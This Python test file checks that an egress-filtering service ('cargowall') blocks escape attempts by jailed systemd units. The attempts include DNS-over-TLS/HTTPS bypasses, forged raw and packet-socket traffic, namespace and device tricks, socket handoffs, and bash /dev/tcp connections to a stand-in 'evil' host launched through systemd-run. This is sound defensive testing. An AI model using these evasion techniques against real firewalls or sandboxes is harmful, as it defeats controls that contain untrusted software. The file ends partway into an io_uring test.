# SPDX-License-Identifier: Apache-2.0
"""Attacks on a whole machine with the service on it, from its units: by DNS, by protocols and paths, by borrowed
sockets. tests/attacks has those of a single command, test_attacks_service.py those on the service. Each title begins
with the id of its class."""

import json
import shutil
import subprocess

from attack_rig import (JAIL, ONE, OPEN, activated, asked_upstream, attack, boot, denied, from_outside, held, not_sent,
                        put_unit, reported, stayed, wait_event)
from harness import Skip, case, equal, refused, worked
from lab import wait_until
from plan import CLIENT4, EVIL4, EVIL6, EXAMPLE4, FOREIGN4, GITHUB4, JOB, NAMELESS4, RESOLVER4, RESOLVER6
from rig import SERVICE, allow, bus_get, ctl, probe, wait_active, wait_resolves, wait_state


# -- A: DNS

@case("A2 A11 the proxy's own upstream: port 53 is the proxy, 853 and 443 are shut, for users, root and its own user")
def upstream_direct(rig):
    c = boot(rig)
    source = """
        ask = dnswire.query("x1.evil.example")
        report(dot=attempt(reach, RESOLVER4, 853), doh=attempt(reach, RESOLVER4, 443), doq=attempt(udp, RESOLVER4, 853),
               dot6=attempt(reach, RESOLVER6, 853), doh3=attempt(udp, RESOLVER6, 443),
               plain=dns_udp(RESOLVER4, ask)["rcode"], stream=dns_tcp(RESOLVER4, [ask])[0x1234]["rcode"],
               plain6=dns_udp(RESOLVER6, ask)["rcode"], foreign=dns_udp(FOREIGN4, ask)["rcode"])
    """
    for user in (JOB, "root", "cargowall"):
        r = attack(c, source, user=user, name=f"asks-{user}.service")
        refused(r, "dot", "doh", "doq", "dot6", "doh3")
        equal([r.facts[k] for k in ("plain", "stream", "plain6", "foreign")], ["NXDOMAIN"] * 4, f"codes for {user}")
        denied(c, RESOLVER4, f"asks-{user}.service", "host", dst_port=853)
    for port in (853, 443):
        for addr in (RESOLVER4, RESOLVER6):
            stayed(rig, addr, "encrypted DNS", port=port)
    stayed(rig, FOREIGN4, "another resolver")
    equal(asked_upstream(rig, "x1.evil.example"), [], "queries that left the machine")


@case("A11 F1 a process that moves into the service's own cgroup reaches nothing, the upstream included")
def in_own_cgroup(rig):
    c = boot(rig, policy=OPEN)
    r = attack(c, f"""
        enter_cgroup("/sys/fs/cgroup/system.slice/{SERVICE}")
        report(evil=attempt(tcp, EVIL4, 7), dot=attempt(reach, RESOLVER4, 853), udp=attempt(udp, EVIL4, 7),
               raw=attempt(send_raw, EVIL4, 47, DATA), ping=attempt(send_icmp, EVIL4, ICMP_ECHO))
    """)
    refused(r, "evil", "dot", "udp", "raw", "ping")
    stayed(rig, EVIL4, "from the service's cgroup")


@case("A9 local name services from a jailed unit: the stub, resolved's bus and varlink, nss; a warm cache; mDNS, LLMNR")
def name_services(rig):
    c = boot(rig, jail=("github.com",))
    c.check("systemctl", "stop", SERVICE)
    wait_resolves(c, "evil.example", EVIL4)  # the cache is warm
    c.check("systemctl", "start", SERVICE)
    wait_active(c)
    wait_resolves(c, "github.com", GITHUB4)  # resolved is back with its drop-in
    rig.watch()
    varlink = json.dumps({"method": "io.systemd.Resolve.ResolveHostname", "parameters": {"name": "evil.example"}})
    r = attack(c, f"""
        def varlink(text):
            with socket.socket(socket.AF_UNIX) as s:
                s.settimeout(20)
                for _ in range(40):  # resolved is restarted with its drop-in
                    if s.connect_ex("/run/systemd/resolve/io.systemd.Resolve") == 0:
                        break
                    time.sleep(0.05)
                else:
                    return "refused"  # where the kernel has a hook for that
                s.sendall(text.encode() + b"\\0")
                return s.recv(65536).decode()
        ask = dnswire.query("evil.example")
        report(varlink=varlink({varlink!r}), stub=dns_udp("127.0.0.53", ask)["rcode"],
               stub_tcp=dns_tcp("127.0.0.53", [ask])[0x1234]["rcode"],
               second_stub=dns_udp("127.0.0.54", ask)["rcode"], libc=resolve("evil.example"),
               mdns=attempt(udp, EVIL4, 5353), llmnr=attempt(udp, EVIL4, 5355), llmnr_tcp=attempt(reach, EVIL4, 5355),
               mdns_group=attempt(udp_from, 5353, "224.0.0.251", 5353),
               llmnr_group=attempt(udp_from, 0, "224.0.0.252", 5355),
               mdns_group6=attempt(udp_from, 0, "ff02::fb%eth0", 5353))
        report(bus=run_status("resolvectl", "query", "--cache=no", "evil.example"),
               bus_cached=run_status("resolvectl", "query", "evil.example"),
               bus_wire=run_status("resolvectl", "query", "--type=TXT", "secret.evil.example"),
               nscd=os.path.exists("/run/nscd/socket"))
        report(named=attempt(tcp, "github.com", 7))
    """, user=JOB, name="jail.service", seconds=120)
    worked(r, "named")
    refused(r, "mdns", "llmnr", "llmnr_tcp", "mdns_group", "llmnr_group")
    assert "errno" in r.facts["mdns_group6"], r.facts["mdns_group6"]
    for code in ("stub", "stub_tcp", "second_stub"):
        equal(r.facts[code], "NXDOMAIN", code)
    for key in ("libc", "varlink"):
        assert EVIL4 not in str(r.facts[key]) and "[203,0,113,66]" not in str(r.facts[key]), (key, r.facts[key])
    for key in ("bus", "bus_cached", "bus_wire"):
        equal(r.facts[key], 1, f"status of resolvectl: {key}")
    equal(r.facts["nscd"], False, "a cache of libc's own")
    for name in ("evil.example", "secret.evil.example"):
        equal(asked_upstream(rig, name), [], f"queries for {name} that left the machine")
    for group in ("224.0.0.251", "224.0.0.252", "ff02::fb"):
        stayed(rig, group, "from the jail", port=5353)
    stayed(rig, EVIL4, "from the jail")


@case("A9 a name that the host allows and the jail does not, asked through resolved, opens nothing for the jail")
def name_by_resolved(rig):
    c = boot(rig)  # the host allows github.com, the jail does not
    r = attack(c, """
        report(found=run_status("resolvectl", "query", "github.com"))
        report(out=attempt(tcp, GITHUB4, 7), libc=resolve("github.com"))
        report(again=attempt(tcp, GITHUB4, 443), datagram=attempt(udp, GITHUB4, 443))
    """, user=JOB, name="jail.service")
    refused(r, "out", "again", "datagram")
    stayed(rig, GITHUB4, "from the jail")
    leases = json.loads(c.check("busctl", "--json=short", "call", "org.cargowall1", "/org/cargowall1",
                                "org.cargowall1.Manager", "ListLeases", "su", "jail", "0"))
    equal(leases["data"][0], [], "what is open for the jail")


@case("A10 a DNS socket that was connected before the start is judged: UDP and TCP")
def old_dns_socket(rig):
    c = boot(rig)
    c.check("systemctl", "stop", SERVICE)
    wait_state(c, "inactive")
    with held(c, """
            ask = dnswire.query("x2.evil.example")
            u, t = new_socket(FOREIGN4, socket.SOCK_DGRAM), new_socket(FOREIGN4, socket.SOCK_STREAM)
            u.connect((FOREIGN4, 53))
            u.send(ask)
            before = dnswire.parse(u.recv(65535))["rcode"]
            t.connect((FOREIGN4, 53))
            print("up", flush=True)
            input()
            report(before=before, udp=attempt(u.send, ask))
            t.settimeout(3)
            def stream():
                t.sendall(struct.pack("!H", len(ask)) + ask)
                return len(t.recv(100))
            report(tcp=attempt(stream))
            """, "old.service", user=JOB) as go_on:
        c.check("systemctl", "start", SERVICE)
        wait_active(c)
        rig.watch()
        r = go_on()
    equal(r.facts["before"], "NOERROR", "the answer before the start")
    refused(r, "udp")
    assert "errno" in r.facts["tcp"], f"an old connection to a resolver continues: {r.facts['tcp']}"
    equal(asked_upstream(rig, "x2.evil.example"), [], "queries that left the machine")
    stayed(rig, FOREIGN4, "datagrams from before", protocol=17)


@case("A11 D7 a query that no hook has seen, forged with a raw socket, is nobody's: refused where there are scopes")
def unattributed(rig):
    c = boot(rig)
    c.check("systemctl", "stop", SERVICE)
    wait_state(c, "inactive")
    with held(c, """
            s = new_socket("127.0.0.1", socket.SOCK_DGRAM)
            s.bind(("127.0.0.1", 0))
            raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            print("up", flush=True)
            input()
            query = udp_datagram(s.getsockname()[1], 53, dnswire.query("x3.evil.example"))
            raw.sendto(ipv4("127.0.0.155", 17, query, src="127.0.0.1"), ("127.0.0.155", 0))
            report(code=dnswire.RCODES[s.recv(65535)[3] & 15])
            """, "old.service") as go_on:
        c.check("systemctl", "start", SERVICE)
        wait_active(c)
        rig.watch()
        r = go_on()
    equal(r.facts.get("code"), "NXDOMAIN", f"code ({r})")
    equal(asked_upstream(rig, "x3.evil.example"), [], "queries that left the machine")


# -- C: protocols and paths

# Each to an address of its own, so that the witness can tell them apart.
OLD_RAW = {
    "echo": "echo.sendto(icmp(8), (A, 0))", "echo reply": "echo.sendto(icmp(0), (A, 0))",
    "unreachable": "echo.sendto(icmp(3), (A, 0))", "echo6": "echo6.sendto(icmp(128), (A6, 0))",
    "reply6": "echo6.sendto(icmp(129), (A6, 0))", "unreachable6": "echo6.sendto(icmp(1), (A6, 0))",
    "solicitation": "echo6.sendto(icmp(133), (A6, 0))", "advertisement": "echo6.sendto(icmp(134), (A6, 0))",
    "neighbour solicitation": "echo6.sendto(icmp(135), (A6, 0))", "redirect": "echo6.sendto(icmp(137), (A6, 0))",
    "udp": "raw.sendto(ipv4(A, 17, udp_datagram(4000, 7)), (A, 0))",
    "dhcp": "raw.sendto(ipv4(A, 17, udp_datagram(68, 67)), (A, 0))",
    "reset": "raw.sendto(ipv4(A, 6, tcp_segment(4000, 7, 4)), (A, 0))",
    "data": "raw.sendto(ipv4(A, 6, tcp_segment(4000, 7, 0x18, DATA)), (A, 0))",
    "as a listener": "raw.sendto(ipv4(A, 6, tcp_segment(9000, 7, 0x18, DATA)), (A, 0))",
    "gre": "raw.sendto(ipv4(A, 47, DATA), (A, 0))", "igmp": "raw.sendto(ipv4(A, 2, DATA), (A, 0))",
    "ipip": "raw.sendto(ipv4(A, 4, DATA), (A, 0))", "sctp": "raw.sendto(ipv4(A, 132, DATA), (A, 0))",
    "esp": "raw.sendto(ipv4(A, 50, DATA), (A, 0))",
    "forged source": "raw.sendto(ipv4(A, 17, udp_datagram(4000, 7), src='10.77.0.77'), (A, 0))",
}


@case("C2 C4 C5 raw sockets of root: refused; of older ones each packet is judged, whatever it says of itself")
def raw_sockets(rig):
    c = boot(rig)
    for unit in ("jail.service", "free.service"):
        r = attack(c, """
            report(raw=attempt(send_raw, EVIL4, 47, DATA), icmp=attempt(send_icmp, EVIL4, 8, socket.SOCK_RAW),
                   icmp6=attempt(send_icmp, EVIL6, 135, socket.SOCK_RAW, 255), own=attempt(send_raw, EVIL4, 255, b"x"),
                   ping=attempt(send_icmp, EVIL4, 8), ping6=attempt(send_icmp, EVIL6, 128))
        """, name=unit)
        refused(r, "raw", "icmp", "icmp6", "own", "ping")
        equal(wait_event(c, event_type="protocol_blocked", unit=unit)["reason"], "raw_socket", "reason")
        denied(c, EVIL4, unit, "jail" if "jail" in unit else "host", protocol="ICMP")
    c.check("systemctl", "stop", SERVICE)
    wait_state(c, "inactive")
    sends = "\n".join(f"            A, A6 = {f'203.0.113.{100 + i}'!r}, {f'2001:db8:113::{100 + i}'!r}\n"
                      f"            report(**{{{name!r}: attempt(lambda: {source})}})"
                      for i, (name, source) in enumerate(OLD_RAW.items()))
    with held(c, f"""
            echo = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
            echo6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
            echo6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
            raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            listener = socket.create_server(("0.0.0.0", 9000))
            print("up", flush=True)
            input()
            def icmp(kind):
                return struct.pack("!BBHHH", kind, 0, 0, 1, 1) + bytes(16) + DATA
{sends}
            """, "old.service") as go_on:
        c.check("systemctl", "start", SERVICE)
        wait_active(c)
        rig.watch()
        r = go_on()
    equal((r.status, len(r.facts)), (0, len(OLD_RAW)), f"status, packets sent ({r.err})")
    out = {name: n for i, name in enumerate(OLD_RAW)
           if (n := rig.packets(f"203.0.113.{100 + i}") + rig.packets(f"2001:db8:113::{100 + i}"))}
    equal(out, {}, "packets that got out")


BY_LINK = """
    packet = ipv4({addr!r}, 17, udp_datagram(4000, 7))
    report(sent=attempt(send_by_link, packet, socket.{kind}))
"""
WHILE_RESTARTED = """
    import select
    packet, sent, refused, end = ipv4(EVIL4, 17, udp_datagram(4000, 7)), 0, 0, None
    print("up", flush=True)
    while end is None or time.monotonic() < end:
        try:
            send_by_link(packet)
            sent += 1
        except OSError as error:
            refused += error.errno in (errno.ENOBUFS, errno.EAFNOSUPPORT)
        if end is None and select.select([0], [], [], 0)[0]:
            end = time.monotonic() + 0.5
    report(sent=sent, refused=refused)
"""


def filters(c, device):
    """For outgoing packets: whether the service has one, and whether the administrator has."""
    text = c.check("tc", "filter", "show", "dev", device, "egress")
    return "cargowall" in text, "pref 9 " in text


@case("C4 packet sockets: none for a user, and what root sends with one from the jail does not leave: on a device that came "
      "later, after the filter was removed, and while the service restarts; stop leaves the filters of others alone")
def packet_sockets(rig):
    c = boot(rig)
    r = attack(c, "report(opened=attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0).close()))",
               name="jail.service", user=JOB)
    equal(r.facts["opened"].get("errno"), "EPERM", "a user's packet socket")
    worked(probe(c, "tcp EXAMPLE4 7"), "tcp EXAMPLE4 7")  # the gateway is known
    sends = [(unit, kind) for unit in ("jail.service", "free.service") for kind in ("SOCK_DGRAM", "SOCK_RAW")]
    for i, (unit, kind) in enumerate(sends):
        attack(c, BY_LINK.format(addr=f"203.0.113.{100 + i}", kind=kind), name=unit)
    equal([send for i, send in enumerate(sends) if rig.packets(f"203.0.113.{100 + i}")], sends[2:], "what got out")
    event = wait_event(c, event_type="protocol_blocked", unit="jail.service", reason="socket_family")
    equal((event.get("socket_family"), event.get("scope")), ("AF_PACKET", "jail"), "family and scope")

    with held(c, WHILE_RESTARTED, "jail-restart.service") as go_on:
        c.check("systemctl", "restart", SERVICE)
        wait_active(c)
        r = go_on()
    equal(r.facts["sent"], 0, "frames that were sent during a restart")
    assert r.facts["refused"] > 0, "nothing was tried during a restart"
    stayed(rig, EVIL4, "by a packet socket during a restart")
    if "backstop" in bus_get(c, "AchievedHooks"):  # this kernel cannot refuse the sockets
        check_filters(c, rig)


def check_filters(c, rig):
    equal(c.check("tc", "filter", "show", "dev", "lo", "egress"), "", "filters of the loopback")
    c.check("ip", "link", "add", "name", "late0", "type", "veth", "peer", "name", "late1")
    try:
        wait_until(lambda: filters(c, "late0")[0], "a filter on the new device")
        c.sh("tc filter add dev late0 egress prio 9 handle 9 bpf bytecode '1,6 0 0 0,'")
        c.check("tc", "filter", "del", "dev", "late0", "egress", "prio", "1")
        equal(filters(c, "late0"), (False, True), "filters after removal")
        wait_until(lambda: filters(c, "late0")[0], "the filter to be put back", 40)
        wait_event(c, event_type="hook_lost", detail="backstop")
        c.check("systemctl", "stop", SERVICE)
        wait_state(c, "inactive")
        equal(filters(c, "late0"), (False, True), "filters after stop, where the administrator has one")
        equal(filters(c, "eth0"), (False, False), "filters after stop")
        assert "clsact" not in c.check("tc", "qdisc", "show", "dev", "eth0"), "eth0 keeps the discipline"
        attack(c, BY_LINK.format(addr="203.0.113.110", kind="SOCK_DGRAM"), name="jail.service")
        assert rig.packets("203.0.113.110"), "after stop nobody drops packets"
    finally:
        c.check("ip", "link", "del", "late0")


@case("C2 DHCP needs no rule, and is no way out for a user where low ports are free for all")
def dhcp(rig):
    c = boot(rig)
    setting = "/proc/sys/net/ipv4/ip_unprivileged_port_start"
    worked(attack(c, "report(lease=attempt(udp_from, 68, '255.255.255.255', 67, broadcast=True))"), "lease")
    before = c.sh(f"cat {setting}")
    c.sh(f"echo 0 > {setting}")  # of the lab's namespace, which the next test has too
    try:
        rig.watch()
        r = attack(c, "report(v4=attempt(udp_from, 68, EVIL4, 67), v6=attempt(udp_from, 546, EVIL6, 547))", user=JOB)
    finally:
        c.sh(f"echo {before} > {setting}")
    stayed(rig, EVIL4, "DHCP by a user")
    stayed(rig, EVIL6, "DHCP by a user")
    refused(r, "v4", "v6")

    sends = "report(v4=attempt(udp_from, 68, EVIL4, 67), v6=attempt(udp_from, 546, EVIL6, 547))"
    for unit in ("free.service", "jail.service"):
        r = attack(c, sends, name=unit)
        stayed(rig, EVIL4, f"DHCP by root in {unit}")
        stayed(rig, EVIL6, f"DHCP by root in {unit}")
        refused(r, "v4", "v6")
        scope = "jail" if "jail" in unit else "host"
        for addr, port in ((EVIL4, 67), (EVIL6, 547)):
            assert denied(c, addr, unit, scope, dst_port=port).get("pid"), "a denial without its process"
    r = attack(c, sends, name="dhclient.service")  # as to renew a lease
    worked(r, "v4")
    worked(r, "v6")


@case("C5 MPTCP, TCP fast open, SCTP, UDP-Lite from the host's scope and from a jail")
def transports(rig):
    c = boot(rig)
    for unit in ("jail.service", "free.service"):
        attack(c, """
            def fast(addr):
                with new_socket(addr, socket.SOCK_STREAM) as s:
                    return s.sendto(DATA, MSG_FASTOPEN, (addr, 7))
            def opened(kind, protocol):
                with socket.socket(socket.AF_INET, kind, protocol) as s:
                    s.settimeout(2)
                    s.connect((EVIL4, 7))
                    return s.send(DATA)
            report(fast=attempt(fast, EVIL4), fast6=attempt(fast, EVIL6), mptcp=attempt(opened, 1, 262),
                   sctp=attempt(opened, 1, 132), sctp_many=attempt(opened, 5, 132), lite=attempt(opened, 2, 136))
        """, user=JOB, name=unit)
        stayed(rig, EVIL4, unit)
        stayed(rig, EVIL6, unit)


@case("C6 C7 a namespace of its own and a device that came after the start: the same verdicts")
def namespaces(rig):
    c = boot(rig)
    outcome = attack(c, """
        def ip(*argv):
            subprocess.run(("ip", *argv), check=True)
        libc = ctypes.CDLL(None, use_errno=True)
        home = os.open("/proc/self/ns/net", os.O_RDONLY)
        report(unshare=libc.unshare(0x40000000))
        away = os.open("/proc/self/ns/net", os.O_RDONLY)
        libc.setns(home, 0)
        ip("link", "add", "new0", "link", "eth0", "type", "macvlan", "mode", "bridge")
        ip("addr", "add", "10.77.0.8/24", "dev", "new0")
        ip("link", "set", "new0", "up")
        def by_device(addr):
            with new_socket(addr, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"new0")
                s.bind(("10.77.0.8", 0))
                return s.sendto(DATA, (addr, 7))
        ip("route", "add", EVIL4 + "/32", "via", GATEWAY4, "dev", "new0")
        report(device=attempt(by_device, EVIL4), allowed=attempt(by_device, EXAMPLE4), routed=attempt(udp, EVIL4, 7))
        ip("addr", "flush", "dev", "new0")
        pid = os.fork()
        if pid == 0:
            libc.setns(away, 0)
            time.sleep(30)
            os._exit(0)
        time.sleep(0.3)
        ip("link", "set", "new0", "netns", str(pid))
        os.kill(pid, 9)
        libc.setns(away, 0)
        ip("addr", "add", "10.77.0.9/24", "dev", "new0")
        ip("link", "set", "lo", "up")
        ip("link", "set", "new0", "up")
        ip("route", "add", "default", "via", GATEWAY4)
        report(away=attempt(tcp, EVIL4, 7), away_udp=attempt(udp, EVIL4, 7), away_allowed=attempt(tcp, EXAMPLE4, 7),
               away_dns=attempt(dns_rcode, FOREIGN4, dnswire.query("x4.evil.example")))
    """, name="free.service")
    worked(outcome, "allowed", "away_allowed")
    refused(outcome, "device", "routed", "away", "away_udp")
    assert "errno" in outcome.facts["away_dns"], outcome.facts["away_dns"]
    stayed(rig, EVIL4, "by a new device or namespace")
    stayed(rig, FOREIGN4, "by a new device or namespace")
    denied(c, EVIL4, "free.service", "host")


@case("C6 a user's own namespaces, which give the capabilities back, give no way out")
def user_namespaces(rig):
    c = boot(rig)
    r = attack(c, """
        libc = ctypes.CDLL(None, use_errno=True)
        report(unshare=libc.unshare(0x10000000))
        report(raw=attempt(send_raw, EVIL4, 47, DATA), tcp=attempt(tcp, EVIL4, 7), ping=attempt(send_icmp, EVIL4, 8),
               link=attempt(send_by_link, ipv4(EVIL4, 17, udp_datagram(4000, 7))),
               dhcp=attempt(udp_from, 68, EVIL4, 67))
    """, user=JOB)
    for name in ("raw", "tcp", "ping", "link", "dhcp"):
        assert r.facts[name].get("errno") in ("EPERM", "EACCES"), (name, r.facts[name])
    stayed(rig, EVIL4, "from a user namespace")


@case("C9 root in a jail who has systemd start something outside meets the host's policy, and is named")
def by_systemd(rig):
    c = boot(rig)
    put_unit(c, "helper.service", "[Service]\nType=oneshot\nExecStart=/bin/bash -c "
             f"'(exec 3<>/dev/tcp/{EVIL4}/7) && touch /run/helper-out'\n")
    script = f"(exec 3<>/dev/tcp/{EVIL4}/7) && touch /run/escaped; (exec 3<>/dev/tcp/{EXAMPLE4}/7) && touch /run/floor"
    r = c.unit("bash", "-c", f"""
        systemd-run --quiet --wait --collect --unit=escaped.service bash -c '{script}'
        systemd-run --quiet --scope --unit=scoped.scope bash -c '{script}'
        systemd-run --quiet --collect --unit=timed --on-active=0 --timer-property=AccuracySec=1ms \\
            bash -c '{script}; touch /run/timed'
        busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartUnit ss \
            helper.service replace
        for i in $(seq 200); do test -e /run/timed && break; sleep 0.05; done
    """, name="jail.service")
    equal(r.status, 0, f"exit status ({r.err})")
    for unit in ("escaped.service", "scoped.scope", "timed.service", "helper.service"):
        denied(c, EVIL4, unit, "host")
    stayed(rig, EVIL4, "through systemd")
    equal([c.path(p).exists() for p in ("/run/escaped", "/run/helper-out", "/run/floor")], [False, False, True],
          "what got out")


@case("C9 a user cannot have a unit outside of his own made: polkit says no, his own manager stays in his unit")
def by_user(rig):
    c = boot(rig, policy=OPEN)
    r = c.unit("systemd-run", "--no-ask-password", "--wait", "--collect", "true", user=JOB, name="jail.service")
    assert r.status != 0, "an ordinary user has a system unit of his own"


INBOUND = """
    with socket.create_server(("0.0.0.0", 9000), reuse_port=True) as server:
        print("up", flush=True)
        server.settimeout(5)
        def answer():
            connection, peer = server.accept()
            with connection:
                connection.settimeout(3)
                connection.sendall(DATA)
                got = connection.recv(100).decode()
                sideways = attempt(tcp, peer[0], 7)
                back = attempt(udp, peer[0], peer[1])
                return {"got": got, "sideways": sideways.get("errno"), "back": back.get("errno")}
        report(answered=attempt(answer))
"""

OPENER = f"""
    s = socket.socket()
    s.settimeout(3)
    s.bind(({EVIL4!r}, 0))
    def talk():
        s.connect(({CLIENT4!r}, 9000))
        got = s.recv(100).decode()
        s.sendall(b"thanks")
        return got
    report(talk=attempt(talk))
"""


@case("C10 a peer that opened a connection is answered by the host, on that connection only; never by a jail")
def inbound(rig):
    c = boot(rig)
    with held(c, INBOUND, "server.service", user=JOB) as end:
        outside = from_outside(rig, OPENER)
        r = end()
    equal(outside["talk"].get("value"), "DATA" * 8, "what the peer heard")
    equal(r.facts["answered"]["value"], {"got": "thanks", "sideways": "EPERM", "back": "EPERM"}, "what the server did")
    rig.watch()
    with held(c, INBOUND, "jail.service", user=JOB) as end:
        outside = from_outside(rig, OPENER)
        end()
    assert "errno" in outside["talk"], f"a jail has answered: {outside}"
    stayed(rig, EVIL4, "from a jail")


@case("C10 datagrams: an answer to who sent one, to nobody else, and not from a jail")
def inbound_datagrams(rig):
    c = boot(rig)
    source = """
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("0.0.0.0", 9001))
        s.settimeout(10)
        print("up", flush=True)
        _, peer = s.recvfrom(100)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
            report(answer=attempt(s.sendto, DATA, peer), port=attempt(s.sendto, DATA, (peer[0], 7)),
                   neighbour=attempt(s.sendto, DATA, (NAMELESS4, peer[1])), socket=attempt(other.sendto, DATA, peer))
    """
    opener = f"""
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(({EVIL4!r}, 0))
        s.sendto(b"hello", ({CLIENT4!r}, 9001))
        report(sent=True)
    """
    with held(c, source, "server.service", user=JOB) as end:
        from_outside(rig, opener)
        r = end()
    worked(r, "answer")
    refused(r, "port", "neighbour", "socket")
    rig.watch()
    with held(c, source, "jail.service", user=JOB) as end:
        from_outside(rig, opener)
        r = end()
    refused(r, "answer", "port", "neighbour", "socket")
    stayed(rig, EVIL4, "from a jail")


ACTIVATED_ANSWER = """
    server, = handed_by_systemd()
    server.settimeout(5)
    connection, _ = server.accept()
    connection.settimeout(3)
    def answer():
        connection.sendall(DATA)
        return connection.recv(100).decode()
    report(answer=attempt(answer))
"""


@case("C10 a jailed service on a socket that systemd made for it: its answers are judged by the jail's policy")
def activated_answers(rig):
    c = boot(rig)
    activated(c, "jail-tcp", "ListenStream=0.0.0.0:9000", ACTIVATED_ANSWER)
    outside = from_outside(rig, OPENER)
    assert "errno" in outside["talk"], f"a jail has answered: {outside}"
    stayed(rig, EVIL4, "from a jail")


ACTIVATED_SENDS = """
    s, = handed_by_systemd()
    s.recv(100)
    report(sendto=attempt(s.sendto, DATA, (EVIL4, 7)), connect=attempt(connect_and_send, s, EVIL4, 8),
           own=attempt(tcp, EVIL4, 9))
"""


@case("C10 a jailed service sends out by a socket that systemd made: judged by the jail's policy")
def activated_sends(rig):
    c = boot(rig, policy=OPEN)
    activated(c, "jail-udp", "ListenDatagram=0.0.0.0:9002", ACTIVATED_SENDS)
    attack(c, "report(woken=attempt(udp_from, 0, '127.0.0.1', 9002))")
    not_sent(reported(c, "jail-udp"), "sendto", "connect", "own")
    stayed(rig, EVIL4, "by a socket of systemd's")


FREE_SOCKETS = """
    server = listen_for_sockets("/run/rig-sockets")
    print("up", flush=True)
    connection, _ = server.accept()
    s = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(3)] + [socket.socket()]
    for one in s:
        one.settimeout(3)
    give(connection, *s)
"""


@case("C10 sockets of a free unit in a jailed one whose cgroup the service has not seen yet: nothing is guessed")
def handed_on_early(rig):
    c = boot(rig, policy=OPEN)
    with held(c, FREE_SOCKETS, "free.service"):
        c.check("systemctl", "kill", "--signal=STOP", "--kill-whom=main", SERVICE)
        try:
            r = attack(c, """
                connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                connection.connect("/run/rig-sockets")
                a, b, _, t = take(connection, 4)
                report(sendto=attempt(a.sendto, DATA, (EVIL4, 7)), connected=attempt(connect_and_send, b, EVIL4, 8000),
                       tcp=attempt(connect_and_send, t, EVIL4, 7))
            """, name="jail-early.service")
        finally:
            c.check("systemctl", "kill", "--signal=CONT", "--kill-whom=main", SERVICE)
    stayed(rig, EVIL4, f"from a unit whose scope was not known yet ({r.facts})")


@case("C10 C13 sockets that are handed between a free and a jailed unit, unconnected: both policies hold")
def handed_on(rig):
    c = boot(rig, policy=OPEN)
    c.put("/etc/cargowall/policy.d/jail.json", {**allow(ONE + "/32", match=JAIL), "rules": [
        {"type": "cidr", "value": ONE + "/32", "action": "allow"},
        {"type": "cidr", "value": EVIL4 + "/32", "ports": [443], "action": "allow"}]})
    ctl(c, "reload")
    with held(c, FREE_SOCKETS + """
    theirs, = take(connection, 1)
    report(backwards=attempt(theirs.sendto, DATA, (NAMELESS4, 7)))
    """, "free.service") as end:
        r = attack(c, """
            connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            connection.connect("/run/rig-sockets")
            a, b, d, t = take(connection, 4)
            give(connection, socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
            report(sendto=attempt(a.sendto, DATA, (EVIL4, 7)), connected=attempt(connect_and_send, b, EVIL4, 7),
                   tcp=attempt(connect_and_send, t, EVIL4, 7))
            b.connect((EVIL4, 7))
            report(again=attempt(b.send, DATA), group=attempt(a.sendto, DATA, ("224.0.0.251", 5353)))
        """, name="jail.service")
        free = end()
    stayed(rig, EVIL4, f"by a free unit's sockets: {r.facts}", port=7)
    stayed(rig, EVIL4, f"by a free unit's sockets: {r.facts}", protocol=6)
    refused(r, "sendto", "connected", "tcp", "group")
    stayed(rig, NAMELESS4, f"by a jail's socket: {free.facts}")


@case("C11 connections opened before the start continue and are logged; with judge they end; datagrams are always judged")
def existing(rig):
    for setting, goes_on in (("keep", True), ("judge", False)):
        c = boot(rig, conf=f"[Service]\nExistingConnections={setting}\n")
        c.check("systemctl", "stop", SERVICE)
        wait_state(c, "inactive")
        with held(c, """
                t, u = new_socket(EVIL4, socket.SOCK_STREAM), new_socket(EVIL4, socket.SOCK_DGRAM)
                t.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # nothing is sent after us
                t.connect((EVIL4, 7))
                u.connect((EVIL4, 7))
                u.send(DATA)
                print("up", flush=True)
                input()
                def more():
                    t.sendall(b"more")
                    return t.recv(100).decode()
                report(tcp=attempt(more), udp=attempt(u.send, DATA), new=attempt(tcp, EVIL4, 7))
                """, "old.service", user=JOB) as go_on:
            c.check("systemctl", "start", SERVICE)
            wait_active(c)
            r = go_on()
        equal("value" in r.facts["tcp"], goes_on, f"{setting}: the old connection continues ({r.facts})")
        refused(r, "udp", "new")
        if goes_on:
            wait_event(c, event_type="existing_connection", dst_ip=EVIL4)
        else:
            wait_event(c, dst_ip=EVIL4, verdict="deny", mid_stream=True, scope="host")
        rig.end_case()


@case("C11 C10 a denial that only the packet hook sees names the unit whose socket it is")
def unit_of_packet(rig):
    c = boot(rig, conf="[Service]\nExistingConnections=judge\n")
    c.check("systemctl", "stop", SERVICE)
    wait_state(c, "inactive")
    with held(c, """
            t = new_socket(EVIL4, socket.SOCK_STREAM)
            t.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # nothing is sent after us
            t.connect((EVIL4, 7))
            print("up", flush=True)
            input()
            report(tcp=attempt(t.sendall, b"more"))
            """, "old.service", user=JOB) as go_on:
        c.check("systemctl", "start", SERVICE)
        wait_active(c)
        go_on()
    event = wait_event(c, dst_ip=EVIL4, verdict="deny", mid_stream=True)
    equal((event.get("unit"), event.get("scope")), ("old.service", "host"), f"unit and scope of {event}")


@case("D2 io_uring in a unit: connect and send are judged as system calls are")
def io_uring(rig):
    compiler = shutil.which("gcc")
    if not compiler:
        raise Skip("no gcc to build the io_uring client")
    c = boot(rig)
